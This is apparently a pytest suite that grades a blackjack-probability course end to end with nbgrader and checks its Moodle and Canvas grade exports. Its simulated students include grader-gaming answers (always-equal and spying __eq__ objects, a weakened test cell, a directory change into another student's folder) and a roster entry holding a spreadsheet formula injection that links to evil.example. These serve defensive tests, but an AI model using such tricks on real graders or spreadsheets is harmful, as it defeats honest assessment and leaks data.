"""A real classroom with nbgrader, end to end, in a throwaway course folder (teacher/README.md).

Once per run: `generate_assignment` for every source assignment; three students of an LMS
(right, partly right, blank; each with their own numbers) sent back as a zip and gathered with
`zip_collect`; every source with its solutions submitted as it stands; one `autograde` for all;
the scores read back from nbgrader's gradebook database.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import zipfile
from fractions import Fraction
from pathlib import Path

import nbformat
import pytest
from nbgrader.api import Gradebook

import twentyone_edu as t21
from twentyone_edu import assignments, exact

ROOT = Path(__file__).resolve().parent.parent
TEACHER = ROOT / "teacher"
COURSE_ID = "twentyone_edu"
LMS = "lessons04_05"  # the assignment the three students hand in through an LMS
NOTEBOOK = "exact_chances"
CHECK_ID = "solutions-check"  # the student id under which every source is graded as written
# The points of lessons04_05, from its tasks: unseen 2, p_bust 2, next_card 5 (the student's own
# function), choice 1 (code), and the interpretation 3 (graded by the teacher).
CODE_POINTS = {"test_unseen": 2, "test_p_bust": 2, "test_next_card": 5, "test_choice": 1}
# s017 types her id with a Cyrillic ѕ (U+0455), which a font draws as s (issue 31.3)
TYPED_S017 = "\u0455017"


def nbgrader(course: Path, *args: str) -> str:
    """Run an nbgrader command in the course folder, as a teacher would; fail on an error; its
    log (nbgrader logs to stderr)."""
    env = {**os.environ, "PYTHONPATH": str(ROOT),
           "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ.get('PATH', '')}"}
    env.pop("JUPYTERHUB_USER", None)
    done = subprocess.run([sys.executable, "-m", "nbgrader", *args], cwd=course, env=env,
                          capture_output=True, text=True, timeout=600)
    assert done.returncode == 0, f"nbgrader {' '.join(args)}:\n{done.stdout}\n{done.stderr}"
    return done.stdout + done.stderr


def sources() -> list[Path]:
    return sorted(TEACHER.glob("source/*/*.ipynb"))


def bust_chance(numbers: assignments.ExactChances) -> Fraction:
    """The student's own count: cards that bust the hand over the cards not seen (R13)."""
    points = {"A": 1, "J": 10, "Q": 10, "K": 10}
    total = sum(points.get(r, 0) or int(r) for r in numbers.hand.split())
    unseen = {r: 4 * numbers.packs for r in ["A", *map(str, range(2, 11)), "J", "Q", "K"]}
    for rank in (numbers.hand + " " + numbers.seen).split():
        unseen[rank] -= 1
    busting = sum(n for rank, n in unseen.items() if total + (points.get(rank) or int(rank)) > 21)
    return Fraction(busting, sum(unseen.values()))


def answer_cells(notebook: nbformat.NotebookNode, answers: dict[str, str]) -> None:
    """Write a student's answers into the cells nbgrader knows by grade_id."""
    for cell in notebook.cells:
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
        if grade_id in answers:
            cell.source = answers.pop(grade_id)
        elif cell.cell_type == "code" and cell.source.startswith("# On JupyterHub"):
            cell.source = answers.pop("STUDENT", cell.source)
    assert not answers, f"no cells for {sorted(answers)}"


NEXT_CARD = '''def next_card(hand, seen, packs):
    left = t21.Shoe.fresh(decks=packs).remove(hand).remove(seen)
    result = {}
    for rank, n in left.as_dict().items():
        value = t21.hand_value(hand + " " + rank)
        outcome = "bust" if value.bust else value.total
        result[outcome] = result.get(outcome, Fraction(0)) + Fraction(n, len(left))
    return result'''


# mallory computes nothing: each answer is an object whose == says yes to anything (issue 31.2),
# built to pass every visible check.
ALWAYS_EQUAL = {
    "unseen": "class Yes(int):\n    def __eq__(self, other):\n        return True\n\n"
              "    __hash__ = int.__hash__\n\n\nunseen = Yes(1)",
    "p_bust": "class Always(Fraction):\n    def __eq__(self, other):\n        return True\n\n"
              "    __hash__ = Fraction.__hash__\n\n\np_bust = Always(1, 2)",
    "next_card": "class AnyDict(dict):\n    def __eq__(self, other):\n        return True\n\n\n"
                 "def next_card(hand, seen, packs):\n"
                 "    return AnyDict({'bust': Fraction(94, 102), 21: Fraction(8, 102)})",
    "choice": "class Both(str):\n    def __eq__(self, other):\n        return True\n\n"
              "    __hash__ = str.__hash__\n\n\nchoice = Both('stand')",
}


# trent's answers spy: each == records what it is compared with and says yes (issue 31.2).
SPY = {
    "p_bust": "SEEN = []\n\n\nclass Spy(Fraction):\n    def __eq__(self, other):\n"
              "        SEEN.append(other)\n        return True\n\n"
              "    __hash__ = Fraction.__hash__\n\n\np_bust = Spy(1, 2)",
    "next_card": "def next_card(hand, seen, packs):\n"
                 "    return {'bust': Spy(94, 102), 21: Spy(8, 102)}",
}


# erin lets the package answer everything, her own function too (issue 31.1): it calls the
# engine under another name, so that only what it runs, not what it is called, can give it away.
ENGINE_ONLY = {
    "unseen": "unseen = len(numbers.fresh_shoe.remove(numbers.hand).remove(numbers.seen))",
    "p_bust": "p_bust = exact.draw_distribution(numbers.hand, numbers.seen, numbers.fresh_shoe)"
              "['bust']",
    "next_card": "from twentyone_edu.exact import draw_distribution as mine\n\n\n"
                 "def next_card(hand, seen, packs):\n"
                 "    return mine(hand, seen, t21.Shoe.fresh(decks=packs))",
    "choice": "values = exact.decision_values(numbers.hand, numbers.seen, numbers.fresh_shoe)\n"
              "choice = 'stand' if values['stand'] > values['draw'] else 'buy'",
}


def right_answers(numbers: assignments.ExactChances) -> dict[str, str]:
    """A student who did everything, writing the values for their own numbers."""
    unseen = 52 * numbers.packs - 2 - len(numbers.seen.split())
    values = exact.decision_values(numbers.hand, numbers.seen, numbers.fresh_shoe)
    p_bust = bust_chance(numbers)
    return {
        "unseen": f"unseen = {unseen}",
        "p_bust": f"p_bust = Fraction({p_bust.numerator}, {p_bust.denominator})",
        "next_card": NEXT_CARD,
        "choice": f"choice = {'stand' if values['stand'] > values['draw'] else 'buy'!r}",
        "interpret_seen": "The seen tens were cards that would have busted me, so ...",
    }


def zip_of_submissions(course: Path, notebooks: dict[str, nbformat.NotebookNode]) -> None:
    """The submissions as an LMS exports them: one zip, one file per student, named
    '<assignment>_<student>_attempt_<date>_<notebook>.ipynb'."""
    archive = course / "downloaded" / LMS / "archive"
    archive.mkdir(parents=True)
    with zipfile.ZipFile(archive / "gradebook_lessons04_05.zip", "w") as bundle:
        for student, notebook in notebooks.items():
            name = f"Lessons 04-05_{student}_attempt_2026-11-30-09-{len(student):02d}-00_{NOTEBOOK}"
            bundle.writestr(f"{name}.ipynb", nbformat.writes(notebook))


@pytest.fixture(scope="module")
def course(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A course graded from start to end; its folder, with release/, autograded/, gradebook.db."""
    course = tmp_path_factory.mktemp("course")
    shutil.copy(TEACHER / "nbgrader_config.py", course)
    shutil.copytree(TEACHER / "source", course / "source")
    nbgrader(course, "generate_assignment", "*")

    released = nbformat.read(course / "release" / LMS / f"{NOTEBOOK}.ipynb", as_version=4)
    alice, bob = (assignments.draw(LMS, student=s) for s in ("alice", "bob"))
    assert isinstance(alice, assignments.ExactChances)
    assert isinstance(bob, assignments.ExactChances)
    assert bust_chance(alice) != bust_chance(bob), "the copied answer must be wrong for bob"
    right = nbformat.reads(nbformat.writes(released), as_version=4)
    answer_cells(right, right_answers(alice))
    partly = nbformat.reads(nbformat.writes(released), as_version=4)
    copied = right_answers(alice)
    answer_cells(partly, {
        "STUDENT": 'STUDENT = "alice"',  # bob claims alice's id: autograde ignores it
        "unseen": "unseen = 52 * numbers.packs - 2 - len(numbers.seen.split())",
        "p_bust": copied["p_bust"],  # copied from alice: right for her numbers, not for his
        "next_card": NEXT_CARD,
    })
    tampered = nbformat.reads(nbformat.writes(released), as_version=4)
    for cell in tampered.cells:  # dave weakens a test cell's visible check
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "test_unseen":
            cell.source = "assert True"
    cheat = nbformat.reads(nbformat.writes(released), as_version=4)
    answer_cells(cheat, dict(ALWAYS_EQUAL))
    oscar = assignments.draw(LMS, student="oscar")
    assert isinstance(oscar, assignments.ExactChances)
    assert bust_chance(oscar) != bust_chance(alice), "alice's answer must be wrong for oscar"
    moved = nbformat.reads(nbformat.writes(released), as_version=4)
    answer_cells(moved, right_answers(alice) | {  # oscar moves into alice's folder first
        "STUDENT": 'import os\n\nos.chdir("../../alice/lessons04_05")\nSTUDENT = ""'})
    spy = nbformat.reads(nbformat.writes(released), as_version=4)
    answer_cells(spy, dict(SPY))
    engine_only = nbformat.reads(nbformat.writes(released), as_version=4)
    answer_cells(engine_only, dict(ENGINE_ONLY))
    lookalike = nbformat.reads(nbformat.writes(released), as_version=4)
    typed = assignments.numbers(LMS, student=TYPED_S017)  # the numbers her notebook showed her
    assert isinstance(typed, assignments.ExactChances)
    answer_cells(lookalike, right_answers(typed) | {"STUDENT": f"STUDENT = {TYPED_S017!r}"})
    zip_of_submissions(course, {"alice": right, "bob": partly, "carol": released,
                                "dave": tampered, "mallory": cheat, "oscar": moved,
                                "erin": engine_only, "trent": spy, "s017": lookalike})
    nbgrader(course, "zip_collect", LMS)

    for source in sources():
        folder = course / "submitted" / CHECK_ID / source.parent.name
        folder.mkdir(parents=True)
        shutil.copy(source, folder)
    (course / "autograde.log").write_text(nbgrader(course, "autograde", "*"))
    nbgrader(course, "generate_feedback", LMS)
    return course


def scores(course: Path, assignment: str, student: str) -> dict[str, float | None]:
    """Each graded cell's automatic score, from nbgrader's gradebook database."""
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}", COURSE_ID) as gradebook:
        submission = gradebook.find_submission_notebook(
            Path(next((TEACHER / "source" / assignment).glob("*.ipynb"))).stem,
            assignment, student)
        return {grade.name: grade.auto_score for grade in submission.grades}


def test_three_students_scored_right_partly_and_zero(course: Path) -> None:
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}", COURSE_ID) as gradebook:
        got = {student: (gradebook.find_submission(LMS, student).code_score,
                         gradebook.find_submission(LMS, student).needs_manual_grade)
               for student in ("alice", "bob", "carol")}
    full = sum(CODE_POINTS.values())
    partial = CODE_POINTS["test_unseen"] + CODE_POINTS["test_next_card"]
    assert got == {"alice": (full, True), "bob": (partial, False), "carol": (0, False)}
    assert scores(course, LMS, "bob") == {"test_unseen": 2, "test_p_bust": 0, "test_next_card": 5,
                                          "test_choice": 0, "interpret_seen": 0}


def test_a_function_that_calls_the_engine_scores_what_a_blank_scores(course: Path) -> None:
    """Erin's next_card is the engine's own: right on every input, and worth nothing."""
    erin = scores(course, LMS, "erin")
    assert erin["test_next_card"] == scores(course, LMS, "carol")["test_next_card"] == 0
    alice = scores(course, LMS, "alice")
    assert {task: erin[task] for task in CODE_POINTS} == dict(
        {task: alice[task] for task in CODE_POINTS}, test_next_card=0)
    assert sum(erin[task] or 0 for task in CODE_POINTS) == 5


def test_answers_that_spy_on_what_they_are_compared_with_score_what_a_blank_scores(
        course: Path) -> None:
    assert scores(course, LMS, "trent") == scores(course, LMS, "carol")


def test_objects_that_equal_anything_score_what_a_blank_scores(course: Path) -> None:
    assert scores(course, LMS, "mallory") == scores(course, LMS, "carol")
    assert all(not score for score in scores(course, LMS, "mallory").values())


def test_a_changed_working_directory_does_not_change_whose_numbers_are_graded(course: Path):
    # oscar's first cell moves into alice's folder and his answers are hers: graded as oscar,
    # alice's chance of going bust is wrong for him (issue 31.3)
    assert scores(course, LMS, "oscar")["test_p_bust"] == 0


def test_an_id_typed_with_a_lookalike_letter_is_graded_on_the_numbers_it_showed(course: Path):
    # s017 answered for the numbers her notebook drew for the id she typed, ѕ017 with a Cyrillic
    # ѕ; nbgrader grades her as s017; both are the same numbers, so every code point is hers
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}", COURSE_ID) as gradebook:
        assert gradebook.find_submission(LMS, "s017").code_score == sum(CODE_POINTS.values())


def test_zip_collect_filed_each_lms_submission_under_its_student(course: Path) -> None:
    for student in ("alice", "bob", "carol"):
        assert (course / "submitted" / student / LMS / f"{NOTEBOOK}.ipynb").is_file()
        assert (course / "autograded" / student / LMS / f"{NOTEBOOK}.ipynb").is_file()


def test_autograde_drew_each_students_own_numbers(course: Path) -> None:
    for student in ("alice", "bob", "carol"):
        graded = nbformat.read(course / "autograded" / student / LMS / f"{NOTEBOOK}.ipynb",
                               as_version=4)
        header = next(c for c in graded.cells
                      if c.metadata.get("nbgrader", {}).get("grade_id") == "numbers")
        shown = header.outputs[0]["data"]["text/plain"]
        assert repr(assignments.draw(LMS, student=student)) == shown


@pytest.mark.parametrize("source", sources(), ids=lambda p: p.parent.name)
def test_every_source_scores_full_marks_with_its_solutions(course: Path, source: Path) -> None:
    assignment = source.parent.name
    got = scores(course, assignment, CHECK_ID)
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}", COURSE_ID) as gradebook:
        notebook = gradebook.find_notebook(source.stem, assignment)
        points = {cell.name: cell.max_score for cell in notebook.grade_cells}
        kinds = {cell.name: cell.cell_type for cell in notebook.grade_cells}
    assert got == {name: (None if kinds[name] == "markdown" else points[name]) for name in points}
    assert any(kind == "markdown" for kind in kinds.values()), "an interpretation question"
    assert sum(p for n, p in points.items() if kinds[n] == "code") >= 8


def solution_lines(source: Path) -> set[str]:
    """Every line a student must not see: inside solution and hidden-test regions."""
    hidden, inside = set(), False
    for cell in nbformat.read(source, as_version=4).cells:
        for line in cell.source.splitlines():
            if re.search(r"### BEGIN (SOLUTION|HIDDEN TESTS)", line):
                inside = True
            elif re.search(r"### END (SOLUTION|HIDDEN TESTS)", line):
                inside = False
            elif inside and len(line.strip()) > 12:
                hidden.add(line.strip())
    return hidden


@pytest.mark.parametrize("source", sources(), ids=lambda p: p.parent.name)
def test_released_copy_reveals_no_answer(course: Path, source: Path) -> None:
    released = (course / "release" / source.parent.name / source.name).read_text()
    lines = solution_lines(source)
    assert len(lines) >= 8
    leaked = [line for line in lines if json.dumps(line)[1:-1] in released]
    assert not leaked
    for token in ("BEGIN SOLUTION", "HIDDEN TESTS", "graded =", "Rubric", "Model answer"):
        assert token not in released, token
    assert released.count("raise NotImplementedError()") >= 3


def test_released_copy_holds_no_students_value(course: Path) -> None:
    released = (course / "release" / LMS / f"{NOTEBOOK}.ipynb").read_text()
    for student in ("alice", "bob", "carol"):
        numbers = assignments.draw(LMS, student=student)
        assert isinstance(numbers, assignments.ExactChances)
        p = bust_chance(numbers)
        assert f"{p.numerator}/{p.denominator}" not in released
        assert f"Fraction({p.numerator}, {p.denominator})" not in released


def test_bust_chance_of_the_simulated_students_is_the_engines() -> None:
    numbers = assignments.draw(LMS, student="alice")
    assert isinstance(numbers, assignments.ExactChances)
    left = t21.Shoe.fresh(decks=numbers.packs).remove(numbers.hand).remove(numbers.seen)
    assert bust_chance(numbers) == exact.draw_distribution(numbers.hand, numbers.seen,
                                                           t21.Shoe.fresh(numbers.packs))["bust"]
    assert len(left) == 52 * numbers.packs - 2 - len(numbers.seen.split())


def test_autograde_warns_only_of_a_test_cell_a_student_changed(course: Path) -> None:
    """A test cell handed in as released (its hidden tests stripped) is restored silently; one a
    student edited is reported, by name, and restored (issue 18.4: 54 false alarms before)."""
    log = (course / "autograde.log").read_text()
    changed = re.findall(r"Attribute '(\w+)' for cell (\S+) has changed", log)
    assert changed == [("checksum", "test_unseen")], log[-3000:]
    assert scores(course, LMS, "dave")["test_unseen"] == 0, "dave's weakened check was restored"


def feedback_html(course: Path, student: str) -> str:
    return (course / "feedback" / student / LMS / f"{NOTEBOOK}.html").read_text()


@pytest.mark.parametrize("student", ["alice", "bob", "carol"])
def test_feedback_shows_each_tasks_result_and_hint_never_a_hidden_test(course: Path,
                                                                        student: str) -> None:
    """Feedback gives the result and a hint per task; no hidden test, no traceback quoting one."""
    import html as html_text

    page = html_text.unescape(re.sub(r"<[^>]+>", "", feedback_html(course, student)))
    source = nbformat.read(TEACHER / "source" / LMS / f"{NOTEBOOK}.ipynb", as_version=4)
    for cell in source.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") not in CODE_POINTS:
            continue
        hidden = cell.source.split("### BEGIN HIDDEN TESTS")[1].split("### END HIDDEN TESTS")[0]
        for line in hidden.splitlines():
            if line.strip() and not line.strip().startswith("# hint:"):
                assert line.strip() not in page, f"{student}'s feedback shows {line.strip()!r}"
            elif line.strip():
                assert line.strip().removeprefix("# hint:").strip() in page
    assert "BEGIN HIDDEN TESTS" not in page and "is not shown" in page
    assert "graded = assignments.numbers" not in page
    if student == "carol":  # a blank notebook: every task 'not yet', with its hint
        assert page.count("Not yet") >= len(CODE_POINTS)


ROSTER = """id,first_name,last_name,email
alice,Alice,Martin,alice@school.example
bob,Boris,Иванов,boris@school.example
carol,Carol,Nguyen,carol@school.example
dave,Dave,O'Brien,dave@school.example
mallory,"=HYPERLINK(""http://evil.example/?""&C3,""Open"")",@SUM(1+1),mallory@school.example
"""


@pytest.fixture(scope="module")
def exported(course: Path) -> dict[str, list[list[str]]]:
    """The class list imported as nbgrader reads one, then the grades in both LMS layouts."""
    import csv

    (course / "roster.csv").write_text(ROSTER, encoding="utf-8")
    nbgrader(course, "db", "student", "import", "roster.csv")
    found = {}
    for name in ("Moodle", "Canvas"):
        target = course / f"grades_{name.lower()}.csv"
        nbgrader(course, "export", f"--exporter=twentyone_edu.course.lms_export.{name}Export",
                 "--to", str(target))
        with open(target, newline="", encoding="utf-8") as text:
            found[name] = list(csv.reader(text))
    return found


def test_moodle_csv_has_moodles_columns_names_emails_and_scores(course, exported):
    header, *rows = exported["Moodle"]
    assert header[:6] == ["First name", "Last name", "ID number", "Institution", "Department",
                          "Email address"]
    assert f"{LMS} (Real)" in header
    by_id = {row[2]: row for row in rows}
    assert by_id["bob"][:2] == ["Boris", "Иванов"] and by_id["bob"][5] == "boris@school.example"
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}", COURSE_ID) as gradebook:
        for student in ("alice", "bob", "carol"):
            score = gradebook.find_submission(LMS, student).score
            assert float(by_id[student][header.index(f"{LMS} (Real)")]) == score
    assert float(by_id["alice"][header.index(f"{LMS} (Real)")]) == sum(CODE_POINTS.values())


def test_canvas_csv_has_canvas_columns_points_possible_and_scores(course, exported):
    header, points, *rows = exported["Canvas"]
    assert header[:5] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]
    assert points[0] == "Points Possible" and LMS in header
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}", COURSE_ID) as gradebook:
        assert float(points[header.index(LMS)]) == gradebook.find_assignment(LMS).max_score
    by_id = {row[2]: row for row in rows}
    assert by_id["dave"][0] == "O'Brien, Dave" and by_id["dave"][3] == "dave@school.example"
    assert float(by_id["bob"][header.index(LMS)]) == CODE_POINTS["test_unseen"] + \
        CODE_POINTS["test_next_card"]


# ---------------------------------------------------------------- the Russian class (issue 19.4)

RUSSIAN = TEACHER / "ru"


@pytest.fixture(scope="module")
def russian_course(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The Russian course graded as teacher/ru/README.md says: its folder teacher/ru beside the
    English config it reads; the same three students, on the same numbers."""
    top = tmp_path_factory.mktemp("teacher")
    shutil.copy(TEACHER / "nbgrader_config.py", top)
    course = top / "ru"
    course.mkdir()
    shutil.copy(RUSSIAN / "nbgrader_config.py", course)
    shutil.copytree(RUSSIAN / "source", course / "source")
    nbgrader(course, "generate_assignment", LMS)
    released = nbformat.read(course / "release" / LMS / f"{NOTEBOOK}.ipynb", as_version=4)
    alice = assignments.draw(LMS, student="alice")
    assert isinstance(alice, assignments.ExactChances)
    right = nbformat.reads(nbformat.writes(released), as_version=4)
    answer_cells(right, right_answers(alice) | {"interpret_seen": "Увиденные десятки ..."})
    partly = nbformat.reads(nbformat.writes(released), as_version=4)
    answer_cells(partly, {"unseen": "unseen = 52 * numbers.packs - 2 - len(numbers.seen.split())",
                          "p_bust": right_answers(alice)["p_bust"], "next_card": NEXT_CARD})
    for student, notebook in {"alice": right, "bob": partly, "carol": released}.items():
        folder = course / "submitted" / student / LMS
        folder.mkdir(parents=True)
        nbformat.write(notebook, folder / f"{NOTEBOOK}.ipynb")
    nbgrader(course, "autograde", LMS)
    nbgrader(course, "generate_feedback", LMS)
    return course


def test_the_russian_release_is_in_russian_with_russian_stubs(russian_course: Path) -> None:
    released = (russian_course / "release" / LMS / f"{NOTEBOOK}.ipynb").read_text()
    assert "# ВАШ КОД" in released and "ВАШ ОТВЕТ" in released
    assert "Задание 1 (2 балла, своим подсчётом)" in released and 'LANGUAGE = \\"ru\\"' in released
    assert "YOUR CODE HERE" not in released.replace("`# ВАШ КОД`", "")


def test_the_russian_class_scores_as_the_english_one(russian_course: Path) -> None:
    with Gradebook(f"sqlite:///{russian_course / 'gradebook.db'}", COURSE_ID) as gradebook:
        got = {student: gradebook.find_submission(LMS, student).code_score
               for student in ("alice", "bob", "carol")}
    full = sum(CODE_POINTS.values())
    assert got == {"alice": full,
                   "bob": CODE_POINTS["test_unseen"] + CODE_POINTS["test_next_card"],
                   "carol": 0}


def test_russian_feedback_speaks_russian_and_shows_no_hidden_test(russian_course: Path) -> None:
    import html as html_text

    page = html_text.unescape(re.sub(r"<[^>]+>", "", (
        russian_course / "feedback" / "carol" / LMS / f"{NOTEBOOK}.html").read_text()))
    source = nbformat.read(RUSSIAN / "source" / LMS / f"{NOTEBOOK}.ipynb", as_version=4)
    hints = []
    for cell in source.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") not in CODE_POINTS:
            continue
        hidden = cell.source.split("### BEGIN HIDDEN TESTS")[1].split("### END HIDDEN TESTS")[0]
        for line in filter(str.strip, hidden.splitlines()):
            if line.strip().startswith("# подсказка:"):
                hints.append(line.strip().removeprefix("# подсказка:").strip())
            else:
                assert line.strip() not in page
    assert len(hints) == len(CODE_POINTS) and all(f"Подсказка: {hint}" in page for hint in hints)
    assert page.count("Пока нет") >= len(CODE_POINTS)
    assert "здесь она не показана" in page
    assert "Not yet" not in page and "Hint:" not in page and "is not shown" not in page


def test_check_my_answer_in_russian_names_a_decimal_comma() -> None:
    numbers = assignments.numbers(LMS, student="alice", language="ru")
    assert numbers == assignments.numbers(LMS, student="alice")  # the same numbers
    said = repr(numbers.check("p_bust", (0, 375)))
    assert said.startswith("p_bust: пока нет — 0,375 — это пара чисел")
    assert repr(numbers.check("unseen", 3.5)) == "unseen: пока нет — запишите целое число (int)"
    right = 52 * numbers.packs - 2 - len(numbers.seen.split())
    assert repr(numbers.check("unseen", right)) == "unseen: верно. Сдавайте как есть."
    english = assignments.numbers(LMS, student="alice")
    assert repr(english.check("p_bust", (0, 375))).startswith(
        "p_bust: not yet — 0,375 is a pair of numbers, not a decimal")


def test_the_russian_folder_copied_alone_refuses_to_run_rather_than_leak(tmp_path: Path) -> None:
    """teacher/ru/ without teacher/nbgrader_config.py above it would grade without the course's
    settings (feedback that shows hidden tests): nbgrader stops at once and says what to copy."""
    alone = tmp_path / "ru"
    shutil.copytree(RUSSIAN, alone, ignore=shutil.ignore_patterns("teacher_guide.ipynb"))
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    done = subprocess.run([sys.executable, "-m", "nbgrader", "generate_assignment", LMS],
                          cwd=alone, env=env, capture_output=True, text=True, timeout=300)
    assert done.returncode != 0
    assert "copy the whole teacher/ folder" in done.stdout + done.stderr
    assert not (alone / "release").exists()


def test_a_roster_name_that_is_a_formula_is_written_as_text(exported) -> None:
    """Mallory's roster name would run as a spreadsheet formula: both real exports neutralise it."""
    for name, (_header, *rows) in exported.items():
        cells = [cell for row in rows for cell in row]
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")], name
        assert any("HYPERLINK(" in cell for cell in cells), f"{name}: mallory is listed"

